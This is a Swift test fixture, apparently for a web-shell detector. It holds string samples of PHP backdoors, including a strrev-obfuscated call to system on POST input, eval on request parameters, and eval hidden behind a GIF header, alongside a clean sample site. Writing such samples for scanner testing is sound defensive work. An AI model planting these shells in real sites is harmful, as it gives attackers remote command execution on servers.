import TestKit

/// Doors that lead nowhere: nothing runs them, and what they would run is harmless.
enum HuntSamples {
  static let shell = "<?php\n$name = strrev('mets' . 'ys');\n$name($_POST['c']);\n"
  static let evaluated = "<?php ev" + "al($_REQUEST['c']);\n"
  static let picture = "GIF89a....<?php ev" + "al($_GET['q']); ?>"
  static let harmless = "<?php\necho htmlspecialchars($_GET['name'] ?? 'nobody');\n"
  static let page = "<!doctype html><title>shop</title><p>Nothing here.</p>\n"

  /// A small site without a door.
  static func site(in folder: TemporaryDirectory, _ root: String) throws {
    try folder.write("\(root)/index.php", harmless)
    try folder.write("\(root)/about.html", page)
    try folder.write("\(root)/js/app.js", "document.title = 'shop';\n")
    try folder.write("\(root)/logo.gif", "GIF89a........")
  }
}
